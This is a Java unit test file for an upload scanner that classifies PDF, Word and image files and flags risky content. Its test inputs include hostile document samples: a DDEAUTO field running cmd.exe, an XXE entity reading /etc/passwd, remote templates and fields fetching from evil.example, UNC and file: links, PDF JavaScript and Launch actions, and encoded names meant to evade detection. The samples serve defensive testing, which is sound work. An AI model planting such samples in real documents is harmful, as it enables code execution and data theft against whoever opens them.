package org.muster.uploads;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.zip.CRC32;

import javax.imageio.IIOException;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/** What files that are kept for others may be. */
class FileKindTest {

	private static final String RELATION = """
			<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" \
			Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="http://evil.example/x" \
			TargetMode="External"/></Relationships>""";

	@TempDir
	private Path folder;

	private Path file(byte[] content) throws Exception {
		return Files.write(this.folder.resolve("file"), content);
	}

	@ParameterizedTest
	@CsvSource({ "GIF, offer.html, offer.gif", "PDF, CV.PDF, CV.PDF", "JPEG, me.jpeg, me.jpeg", "PDF, run.exe, run.pdf",
			"PNG, ?, ?.png", "WORD, letter, letter.docx", "PDF, version 1.2, version 1.2.pdf", "PDF, .pdf, ?.pdf",
			"PNG, a.html.png, a.html.png" })
	void aNameEndsAsItsContentIs(FileKind kind, String name, String named) {
		assertThat(kind.named(name, 200)).isEqualTo(named);
		assertThat(kind.named("x".repeat(300), 200)).hasSize(200);
	}

	private static byte[] pdf(boolean packed, boolean script, boolean launch) throws Exception {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
			document.addPage(new PDPage());
			if (script) {
				document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
			}
			if (launch) {
				document.getDocumentCatalog().setOpenAction(new PDActionLaunch());
			}
			document.save(bytes, packed ? CompressParameters.DEFAULT_COMPRESSION : CompressParameters.NO_COMPRESSION);
			return bytes.toByteArray();
		}
	}

	@Test
	void aPdfWithAScriptIsFoundAlsoInsideOfPackedObjectsAndInCodes() throws Exception {
		for (boolean packed : new boolean[] { true, false }) {
			assertThat(FileKind.PDF.risk(file(pdf(packed, false, false)))).isEmpty();
			assertThat(FileKind.PDF.risk(file(pdf(packed, true, false)))).isPresent();
			assertThat(FileKind.PDF.risk(file(pdf(packed, false, true)))).isPresent();
		}
		String plain = new String(pdf(false, true, false), StandardCharsets.ISO_8859_1);
		assertThat(plain).contains("/JavaScript");
		byte[] coded = plain.replace("/JavaScript", "/J#61v#61Script").getBytes(StandardCharsets.ISO_8859_1);
		assertThat(FileKind.PDF.risk(file(coded))).isPresent();
	}

	@Test
	void aPdfThatCarriesFilesOrRunsAScriptWithoutSayingSoIsFound() throws Exception {
		for (boolean packed : new boolean[] { true, false }) {
			assertThat(FileKind.PDF.risk(file(changed(packed, (catalog) -> {
				COSDictionary files = new COSDictionary();
				files.setItem(COSName.getPDFName("EmbeddedFiles"), new COSDictionary());
				catalog.setItem(COSName.NAMES, files);
			})))).isPresent();
			assertThat(FileKind.PDF.risk(file(changed(packed, (catalog) -> {
				COSDictionary action = new COSDictionary();
				action.setName(COSName.S, "Rendition");
				action.setString(COSName.JS, "app.alert(1)");
				catalog.setItem(COSName.OPEN_ACTION, action);
			})))).isPresent();
			assertThat(FileKind.PDF.risk(file(changed(packed, (catalog) -> {
				COSDictionary file = new COSDictionary();
				file.setItem(COSName.EF, new COSDictionary());
				catalog.setItem(COSName.getPDFName("Extra"), file);
			})))).isPresent();
			assertThat(FileKind.PDF.risk(file(changed(packed, (catalog) -> catalog.setString(COSName.LANG, "en")))))
				.isEmpty();
		}
	}

	private static byte[] changed(boolean packed, Consumer<COSDictionary> change) throws Exception {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
			document.addPage(new PDPage());
			change.accept(document.getDocumentCatalog().getCOSObject());
			document.save(bytes, packed ? CompressParameters.DEFAULT_COMPRESSION : CompressParameters.NO_COMPRESSION);
			return bytes.toByteArray();
		}
	}

	@Test
	void packedObjectsThatAreTurnedOverCannotBeLookedInto() throws Exception {
		byte[] packed = pdf(true, false, false);
		String turned = new String(packed, StandardCharsets.ISO_8859_1).replaceFirst("/ObjStm",
				"/ObjStm /DecodeParms << /Predictor 12 >>");
		assertThat(FileKind.PDF.risk(file(turned.getBytes(StandardCharsets.ISO_8859_1)))).isPresent();
		assertThat(FileKind.PDF.risk(file(utf8("%PDF-1.7 and no more")))).isPresent();
	}

	private static byte[] word(String name, byte[] part) {
		return Documents.zip(parts(name, part));
	}

	@Test
	void aPdfThatIsEncryptedForACertificateIsRefusedLikeAnyThatCannotBeRead() throws Exception {
		List<String> objects = List.of("<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [3 0 R] /Count 1>>",
				"<</Type /Page /Parent 2 0 R>>",
				"<</Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Length 128 /CF <</DefaultCryptFilter "
						+ "<</CFM /AESV2 /Length 16 /Recipients [<3000>]>>>> /StmF /DefaultCryptFilter>>");
		StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
		StringBuilder places = new StringBuilder("xref\n0 5\n0000000000 65535 f \n");
		for (String object : objects) {
			places.append("%010d 00000 n \n".formatted(pdf.length()));
			pdf.append("%d 0 obj\n%s\nendobj\n".formatted(objects.indexOf(object) + 1, object));
		}
		int start = pdf.length();
		pdf.append(places)
			.append("trailer\n<</Root 1 0 R /Size 5 /Encrypt 4 0 R /ID [<00> <00>]>>\nstartxref\n" + start
					+ "\n%%EOF\n");
		byte[] locked = pdf.toString().getBytes(StandardCharsets.US_ASCII);
		assertThat(FileKind.PDF.risk(file(locked))).contains(FileRisk.UNREADABLE);
		assertThatExceptionOfType(Unreadable.class).isThrownBy(() -> DocumentText.of(Document.Kind.PDF, locked))
			.withMessage("imports.cv.damaged");
	}

	private static Map<String, byte[]> parts(String name, byte[] part) {
		Map<String, byte[]> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml", "<Types/>".getBytes(StandardCharsets.UTF_8));
		parts.put("word/document.xml", "<document/>".getBytes(StandardCharsets.UTF_8));
		parts.put(name, part);
		return parts;
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	@Test
	void aDocumentWithMacrosOrATemplateFromElsewhereIsFound() throws Exception {
		String types = "<Types><Override PartName=\"/word/other.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>";
		Map<String, byte[]> parts = parts("[Content_Types].xml", utf8(types));
		assertThat(FileKind.WORD.risk(file(Documents.zip(parts)))).as("no such part").isEmpty();
		parts.put("word/Other.bin", new byte[3]);
		Path macros = file(Documents.zip(parts));
		assertThat(FileKind.of(macros)).contains(FileKind.WORD);
		assertThat(FileKind.WORD.risk(macros)).isPresent();
		assertThat(FileKind.WORD.risk(file(word("word/vbaProject.bin", new byte[3])))).isPresent();
		String link = RELATION.formatted("attachedTemplate");
		assertThat(FileKind.WORD.risk(file(word("word/_rels/settings.xml.rels", utf8(link))))).isPresent();
		byte[] wide = ("\ufeff" + link).getBytes(StandardCharsets.UTF_16LE);
		assertThat(FileKind.WORD.risk(file(word("word/_rels/settings.xml.rels", wide)))).isPresent();
		String harmless = RELATION.formatted("hyperlink");
		assertThat(FileKind.WORD.risk(file(word("word/_rels/document.xml.rels", utf8(harmless))))).isEmpty();
		assertThat(FileKind.WORD.risk(file(Documents.word("A letter")))).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "<w:instrText> DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k calc\" </w:instrText>",
			"<w:fldSimple w:instr=' dde Excel x y'/>",
			"<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:</w:instrText>",
			"<w:instrText>D</w:instrText><w:fldChar/><w:instrText>DEAUTO x</w:instrText><w:fldChar/><w:instrText>QUOTE 68 68</w:instrText>",
			"<w:instrText>LINK Excel.Sheet.12 \"\\\\evil\\x\"</w:instrText>",
			"<w:instrText> INCLUDETEXT http://evil.example/x</w:instrText>" })
	void aFieldThatStartsSomethingIsFound(String field) throws Exception {
		String body = "<w:document xmlns:w='urn:w'><w:p><w:r>" + field + "</w:r></w:p></w:document>";
		assertThat(FileKind.WORD.risk(file(word("word/document.xml", utf8(body))))).isPresent();
		assertThat(FileKind.WORD.risk(file(word("word/anything", utf8(body))))).isPresent();
	}

	@ParameterizedTest
	@ValueSource(strings = { "<w:instrText> PAGE </w:instrText>", "<w:t>DDEAUTO is a field</w:t>",
			"<w:instrText> HYPERLINK \"https://test.example/dde\" </w:instrText>", "<w:fldSimple w:instr=' DATE '/>",
			"<w:instrText>QUOTE \"a\"</w:instrText>" })
	void aFieldThatShowsSomethingIsNone(String field) throws Exception {
		String body = "<w:document xmlns:w='urn:w'><w:p><w:r>" + field + "</w:r></w:p></w:document>";
		assertThat(FileKind.WORD.risk(file(word("word/document.xml", utf8(body))))).isEmpty();
	}

	@Test
	void anObjectOrAProjectOfMacrosIsFoundWhateverItIsCalled() throws Exception {
		byte[] compound = HexFormat.of().parseHex("d0cf11e0a1b11ae10000");
		assertThat(FileKind.WORD.risk(file(word("word/media/image1.png", compound)))).isPresent();
		for (String part : List.of("oleObject", "vbaProject", "control", "aFChunk")) {
			String inside = RELATION.formatted(part)
				.replace("TargetMode=\"External\"", "")
				.replace("http://evil.example/", "");
			assertThat(FileKind.WORD.risk(file(word("word/_rels/document.xml.rels", utf8(inside))))).as(part)
				.isPresent();
		}
		byte[] table = word("xl/workbook.xml", utf8("<workbook/>"));
		assertThat(FileKind.WORD.risk(file(word("word/embeddings/chart.xlsx", table)))).isEmpty();
		byte[] macros = word("xl/other.bin", compound);
		assertThat(FileKind.WORD.risk(file(word("word/embeddings/chart.xlsx", macros)))).isPresent();
	}

	@Test
	void aDeclarationIsFoundInWideLettersAndFarBehindTheBeginning() throws Exception {
		String declared = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
		assertThat(FileKind.of(file(word("word/a.xml", utf8("<x/>"))))).contains(FileKind.WORD);
		assertThat(FileKind.of(file(word("word/a.xml", declared.getBytes(StandardCharsets.UTF_16))))).isEmpty();
		assertThat(FileKind.of(file(word("word/a.xml", declared.getBytes(StandardCharsets.UTF_16LE))))).isEmpty();
		for (int blanks : new int[] { 20_000, 16 * 1024 - 4 }) {
			assertThat(FileKind.of(file(word("word/a.xml", utf8(" ".repeat(blanks) + declared))))).isEmpty();
		}
	}

	private static byte[] wordWith(String inside) {
		return word("word/document.xml",
				utf8("<w:document xmlns:w='urn:w' xmlns:v='urn:v'><w:p><w:r>" + inside + "</w:r></w:p></w:document>"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "<w:instrText> INCLUDEPICTURE \"http://evil.example/x.png\" \\d </w:instrText>",
			"<w:fldSimple w:instr=' DATABASE \\d c:\\x.mdb'/>",
			"<w:instrText>MACROBUTTON Run click here</w:instrText>" })
	void aFieldThatFetchesSomethingIsFound(String field) throws Exception {
		assertThat(FileKind.WORD.risk(file(wordWith(field)))).contains(FileRisk.FIELDS);
	}

	@ParameterizedTest
	@CsvSource({ "image, https://evil.example/x.png, EXTERNAL", "image, file:///c:/x.png, EXTERNAL",
			"attachedTemplate, https://evil.example/x, EXTERNAL", "oleObject, https://evil.example/x, EXTERNAL",
			"hyperlink, file:///c:/Windows/System32/calc.exe, LINKS", "hyperlink, file://evil.example/share, LINKS",
			"hyperlink, \\\\evil.example\\share, LINKS", "hyperlink, //evil.example/share, LINKS",
			"hyperlink, C:\\x.exe, LINKS", "hyperlink, search-ms:query=x, LINKS", "hyperlink, javascript:x(), LINKS",
			"hyperlink, https://test.example/a?b=file:c, ", "hyperlink, HTTP://test.example, ",
			"hyperlink, mailto:ines@test.example, ", "hyperlink, www.test.example:8080/x, ",
			"hyperlink, annex/terms.docx, ", "hyperlink, #chapter, " })
	void ofLinksOutOfADocumentThoseToTheWebMayStay(String kind, String target, FileRisk risk) throws Exception {
		String relation = RELATION.formatted(kind).replace("http://evil.example/x", target.replace("&", "&amp;"));
		assertThat(FileKind.WORD.risk(file(word("word/_rels/document.xml.rels", utf8(relation)))))
			.isEqualTo(Optional.ofNullable(risk));
	}

	@ParameterizedTest
	@CsvSource({ "HYPERLINK \"file:///c:/x.exe\", LINKS", "HYPERLINK \"\\\\\\\\evil\\\\share\" \\o \"tip\", LINKS",
			"HYPERLINK \\\\evil\\share, LINKS", "HYPERLINK \\o \"tip\" \"file:x\", LINKS",
			"HYPERLINK \"https://test.example\" \\l \"part\", ", "HYPERLINK \\l \"_Toc1\", ",
			"HYPERLINK \\l \"_Toc1\" \\h, ", "HYPERLINK www.test.example, " })
	void theSameHoldsForLinksThatAreFields(String field, FileRisk risk) throws Exception {
		assertThat(FileKind.WORD.risk(file(wordWith("<w:instrText>" + field + "</w:instrText>"))))
			.isEqualTo(Optional.ofNullable(risk));
	}

	@Test
	void aPictureByItsAddressAndTheDatabaseOfAMailMergeAreFound() throws Exception {
		assertThat(FileKind.WORD.risk(file(wordWith("<v:imagedata src='https://evil.example/x.png'/>"))))
			.contains(FileRisk.EXTERNAL);
		assertThat(FileKind.WORD.risk(file(wordWith("<v:imagedata src='media/x.png'/>")))).isEmpty();
		assertThat(FileKind.WORD.risk(file(wordWith("<w:connectString w:val='DSN=x'/>")))).contains(FileRisk.EXTERNAL);
	}

	@Test
	void aKindThatIsOnlyDeclaredHarmsNobody() throws Exception {
		String types = "<Types><Default Extension=\"BIN\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/></Types>";
		Map<String, byte[]> parts = parts("[Content_Types].xml", utf8(types));
		assertThat(FileKind.WORD.risk(file(Documents.zip(parts)))).isEmpty();
		parts.put("word/embeddings/one.bin", new byte[3]);
		assertThat(FileKind.WORD.risk(file(Documents.zip(parts)))).contains(FileRisk.EMBEDDED);
	}

	private static COSDictionary action(String kind, String... next) {
		COSDictionary action = new COSDictionary();
		action.setName(COSName.S, kind);
		if (next.length > 0) {
			action.setItem(COSName.NEXT, action(next[0]));
		}
		return action;
	}

	@ParameterizedTest
	@ValueSource(strings = { "GoToR", "URI", "Thread", "ResetForm", "Unknown" })
	void whatAPdfOpensOrSendsUnaskedIsFound(String kind) throws Exception {
		for (boolean packed : new boolean[] { true, false }) {
			assertThat(FileKind.PDF
				.risk(file(changed(packed, (catalog) -> catalog.setItem(COSName.OPEN_ACTION, action(kind))))))
				.contains(FileRisk.ACTIONS);
			assertThat(FileKind.PDF
				.risk(file(changed(packed, (catalog) -> catalog.setItem(COSName.OPEN_ACTION, action("GoTo", kind))))))
				.contains(FileRisk.ACTIONS);
			for (String when : List.of("O", "WC", "E", "PV")) {
				assertThat(FileKind.PDF.risk(file(changed(packed, (catalog) -> {
					COSDictionary actions = new COSDictionary();
					actions.setItem(COSName.getPDFName(when), action(kind));
					catalog.setItem(COSName.AA, actions);
				})))).as(when).contains(FileRisk.ACTIONS);
			}
		}
		for (String risky : List.of("GoToE", "ImportData", "SubmitForm")) {
			assertThat(FileKind.PDF
				.risk(file(changed(true, (catalog) -> catalog.setItem(COSName.OPEN_ACTION, action(risky))))))
				.isPresent();
		}
	}

	@Test
	void aPdfMayOpenAtAPageAndAButtonMayClearAForm() throws Exception {
		assertThat(FileKind.PDF
			.risk(file(changed(true, (catalog) -> catalog.setItem(COSName.OPEN_ACTION, action("GoTo", "Named"))))))
			.isEmpty();
		assertThat(FileKind.PDF
			.risk(file(changed(true, (catalog) -> catalog.setItem(COSName.OPEN_ACTION, new COSArray()))))).isEmpty();
		assertThat(FileKind.PDF.risk(file(changed(true, (catalog) -> {
			COSDictionary actions = new COSDictionary();
			actions.setItem(COSName.U, action("ResetForm"));
			catalog.setItem(COSName.AA, actions);
		})))).isEmpty();
	}

	private static byte[] withButton(boolean packed, Consumer<COSDictionary> change) throws Exception {
		return changed(packed, (catalog) -> {
			COSDictionary button = new COSDictionary();
			button.setName(COSName.SUBTYPE, "Widget");
			button.setName(COSName.FT, "Btn");
			change.accept(button);
			// Not on a page, but reached as readers reach it.
			COSDictionary form = new COSDictionary();
			COSArray fields = new COSArray();
			fields.add(button);
			form.setItem(COSName.FIELDS, fields);
			catalog.setItem(COSName.ACRO_FORM, form);
		});
	}

	@ParameterizedTest
	@CsvSource({ "SubmitForm, FORMS", "ImportData, FORMS", "Launch, LINKS", "ResetForm, ", "GoTo, " })
	void aButtonOfAPdfMayClearAFormAndNotSendIt(String kind, FileRisk risk) throws Exception {
		for (boolean packed : new boolean[] { true, false }) {
			List<Consumer<COSDictionary>> ways = List.of((button) -> button.setItem(COSName.A, action(kind)),
					(button) -> button.setItem(COSName.A, action("ResetForm", kind)), (button) -> {
						COSDictionary pressed = new COSDictionary();
						pressed.setItem(COSName.U, action(kind));
						button.setItem(COSName.AA, pressed);
					}, (button) -> {
						COSDictionary pressed = new COSDictionary();
						pressed.setItem(COSName.D, action("GoTo", kind));
						button.setItem(COSName.AA, pressed);
					});
			for (Consumer<COSDictionary> way : ways) {
				assertThat(FileKind.PDF.risk(file(withButton(packed, way)))).isEqualTo(Optional.ofNullable(risk));
			}
		}
		// A name may be written with codes.
		byte[] plain = withButton(false, (button) -> button.setItem(COSName.A, action(kind)));
		String coded = new String(plain, StandardCharsets.ISO_8859_1).replace("/" + kind,
				"/#%02x%s".formatted((int) kind.charAt(0), kind.substring(1)));
		assertThat(FileKind.PDF.risk(file(coded.getBytes(StandardCharsets.ISO_8859_1))))
			.isEqualTo(Optional.ofNullable(risk));
	}

	@Test
	void aPdfThatIsCutIsSaidToBeSo() throws Exception {
		for (byte[] whole : List.of(Documents.pdf("A page\nof text"), pdf(true, false, false),
				pdf(false, false, false))) {
			assertThat(FileKind.PDF.risk(file(whole))).isEmpty();
			for (int cut = 6; cut < whole.length; cut += 7) {
				assertThat(FileKind.PDF.risk(file(Arrays.copyOf(whole, whole.length - cut)))).isNotEmpty();
			}
			assertThat(FileKind.PDF.risk(file(Arrays.copyOf(whole, whole.length / 2)))).contains(FileRisk.CUT);
			byte[] padded = Arrays.copyOf(whole, whole.length + 5000);
			assertThat(FileKind.PDF.risk(file(padded))).as("padded").isEmpty();
		}
		assertThat(FileKind.PDF.risk(file(Documents.locked(Documents.pdf("A page"))))).contains(FileRisk.LOCKED);
		assertThat(FileKind.PDF.risk(file(utf8("%PDF-1.7 and no more\n%%EOF")))).contains(FileRisk.UNREADABLE);
	}

	@ParameterizedTest
	@CsvSource({ "png, PNG", "jpeg, JPEG", "gif, GIF" })
	void aPictureThatIsCutIsSaidToBeSo(String format, FileKind kind) throws Exception {
		byte[] whole = Documents.picture(format);
		assertThat(FileKind.of(file(whole))).contains(kind);
		assertThat(kind.risk(file(whole))).isEmpty();
		assertThat(kind.risk(file(Arrays.copyOf(whole, whole.length + 300)))).as("with something behind").isEmpty();
		int marks = kind == FileKind.GIF ? 2 : 1;
		for (int length = 16; length <= whole.length - marks; length++) {
			assertThat(kind.risk(file(Arrays.copyOf(whole, length)))).as("%d bytes", length).contains(FileRisk.CUT);
		}
	}

	@Test
	void aPictureThatSaysToBeLargerThanItCanBeIsSaidToBeSo() throws Exception {
		byte[] jpeg = Documents.picture("jpeg");
		int frame = new String(jpeg, StandardCharsets.ISO_8859_1).indexOf("\u00ff\u00c0");
		Arrays.fill(jpeg, frame + 5, frame + 9, (byte) 0xfe);
		assertThat(FileKind.JPEG.risk(file(jpeg))).contains(FileRisk.SIZE);
		Arrays.fill(jpeg, frame + 5, frame + 9, (byte) 0);
		assertThat(FileKind.JPEG.risk(file(jpeg))).contains(FileRisk.SIZE);
		byte[] gif = Documents.picture("gif");
		int image = gif.length - 1;
		while (gif[image] != 0x2c || gif[image + 5] != 60 || gif[image + 7] != 40) {
			image--;
		}
		Arrays.fill(gif, image + 5, image + 9, (byte) 0xfe);
		assertThat(FileKind.GIF.risk(file(gif))).contains(FileRisk.SIZE);
		for (int side : new int[] { 2_000_000_000, 100_000, 0, -5 }) {
			ByteBuffer png = ByteBuffer.wrap(Documents.picture("png"));
			png.putInt(16, side).putInt(20, side);
			assertThat(FileKind.PNG.risk(file(png.array()))).as("without its checksum").contains(FileRisk.DAMAGED);
			CRC32 sum = new CRC32();
			sum.update(png.array(), 12, 17);
			png.putInt(29, (int) sum.getValue());
			assertThat(FileKind.PNG.risk(file(png.array()))).contains(FileRisk.SIZE);
		}
		byte[] flipped = Documents.picture("png");
		flipped[flipped.length / 2] ^= 1;
		assertThat(FileKind.PNG.risk(file(flipped))).contains(FileRisk.DAMAGED);
	}

	/** They pack best. */
	@ParameterizedTest
	@ValueSource(ints = { BufferedImage.TYPE_INT_RGB, BufferedImage.TYPE_INT_ARGB, BufferedImage.TYPE_BYTE_BINARY,
			BufferedImage.TYPE_BYTE_GRAY, BufferedImage.TYPE_USHORT_GRAY, BufferedImage.TYPE_BYTE_INDEXED })
	void aLargePictureOfOneColourIsTaken(int type) throws Exception {
		BufferedImage picture = new BufferedImage(3000, 2000, type);
		for (FileKind kind : List.of(FileKind.PNG, FileKind.JPEG, FileKind.GIF)) {
			ByteArrayOutputStream bytes = new ByteArrayOutputStream();
			ImageWriter writer = ImageIO.getImageWritersByFormatName(kind.name()).next();
			ImageWriteParam how = writer.getDefaultWriteParam();
			how.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
			try (ImageOutputStream output = ImageIO.createImageOutputStream(bytes)) {
				writer.setOutput(output);
				writer.write(null, new IIOImage(picture, null, null), how);
			}
			catch (IIOException ex) {
				assertThat(kind).as("has no such colours").isEqualTo(FileKind.JPEG);
				continue;
			}
			assertThat(kind.risk(file(bytes.toByteArray()))).as(kind.name()).isEmpty();
		}
	}

	@Test
	void ofAFileOfNoKindIsSaidWhatIsKnown() throws Exception {
		byte[] old = HexFormat.of().parseHex("d0cf11e0a1b11ae10000");
		assertThat(UnknownKind.of(file(old))).isEqualTo(UnknownKind.OLD);
		assertThat(UnknownKind.of(file(Documents.zip(Map.of("xl/workbook.xml", old))))).isEqualTo(UnknownKind.OFFICE);
		assertThat(UnknownKind.of(file(Documents.zip(Map.of("a.txt", old))))).isEqualTo(UnknownKind.PACKED);
		byte[] word = Documents.word("A letter");
		assertThat(UnknownKind.of(file(Arrays.copyOf(word, word.length - 100)))).isEqualTo(UnknownKind.PACKED);
		assertThat(UnknownKind.of(file(Documents.damaged(word)))).isEqualTo(UnknownKind.PACKED);
		assertThat(UnknownKind.of(file(Documents.bomb("word/document.xml", 400)))).isEqualTo(UnknownKind.HARMFUL);
		assertThat(UnknownKind.of(file(Documents.both(pdf(true, false, false), word)))).isEqualTo(UnknownKind.MIXED);
		assertThat(UnknownKind.of(file(utf8("plain text")))).isEqualTo(UnknownKind.OTHER);
		assertThat(UnknownKind.of(file(new byte[0]))).isEqualTo(UnknownKind.OTHER);
	}

	@ParameterizedTest
	@CsvSource({ "URI, https://test.example/, ", "URI, mailto:ines@test.example, ", "URI, file:///c:/x.exe, LINKS",
			"URI, \\\\evil\\share, LINKS", "Base, file:///c:/, LINKS", "GoToR, annex.pdf, ",
			"GoToR, //evil.example/share/x.pdf, LINKS", "GoToR, /evil.example/share/x.pdf, LINKS" })
	void ofLinksInAPdfThoseToTheWebMayStay(String kind, String target, FileRisk risk) throws Exception {
		for (boolean packed : new boolean[] { true, false }) {
			assertThat(FileKind.PDF.risk(file(changed(packed, (catalog) -> {
				COSDictionary link = action(kind);
				if (kind.equals("GoToR")) {
					COSDictionary file = new COSDictionary();
					file.setString(COSName.F, target);
					link.setItem(COSName.F, file);
				}
				else {
					link.setString(COSName.getPDFName(kind), target);
				}
				catalog.setItem(COSName.A, link);
			})))).isEqualTo(Optional.ofNullable(risk));
		}
	}

	@Test
	void bytesOfAPdfThatAreInAnotherFileAreFound() throws Exception {
		for (COSName name : List.of(COSName.F, COSName.getPDFName("Ref"))) {
			assertThat(FileKind.PDF.risk(file(changed(true, (catalog) -> {
				COSStream stream = new COSStream();
				COSDictionary file = new COSDictionary();
				file.setString(COSName.F, "https://evil.example/x");
				stream.setItem(name, file);
				catalog.setItem(COSName.METADATA, stream);
			})))).contains(FileRisk.EXTERNAL);
		}
	}

	@Test
	void eachRiskIsSaid() throws Exception {
		assertThat(FileKind.PDF.risk(file(pdf(true, true, false)))).contains(FileRisk.SCRIPTS);
		assertThat(FileKind.PDF.risk(file(pdf(true, false, true)))).contains(FileRisk.LINKS);
		assertThat(FileKind.PDF.risk(file(utf8("%PDF-1.7 and no more")))).contains(FileRisk.CUT);
		assertThat(FileKind.WORD.risk(file(word("word/vbaProject.bin", new byte[3])))).contains(FileRisk.MACROS);
		assertThat(FileKind.WORD.risk(file(word("word/a.xml", utf8("<a><b></a>"))))).contains(FileRisk.UNREADABLE);
		assertThat(FileKind.WORD.risk(file(word("word/a.png", HexFormat.of().parseHex("d0cf11e0a1b11ae10000")))))
			.contains(FileRisk.EMBEDDED);
	}

	@Test
	void aWebpIsTakenIfItIsOneWholePicture() throws Exception {
		for (String name : List.of("lossy", "lossless", "transparent", "animated")) {
			try (InputStream picture = FileKindTest.class.getResourceAsStream("/pictures/" + name + ".webp")) {
				byte[] content = Objects.requireNonNull(picture).readAllBytes();
				assertThat(FileKind.of(file(content))).contains(FileKind.WEBP);
				assertThat(FileKind.WEBP.risk(file(content)))
					.isEqualTo(name.equals("animated") ? Optional.of(FileRisk.ANIMATED) : Optional.empty());
				assertThat(FileKind.WEBP.risk(file(Arrays.copyOf(content, content.length - 4)))).contains(FileRisk.CUT);
			}
		}
	}

}
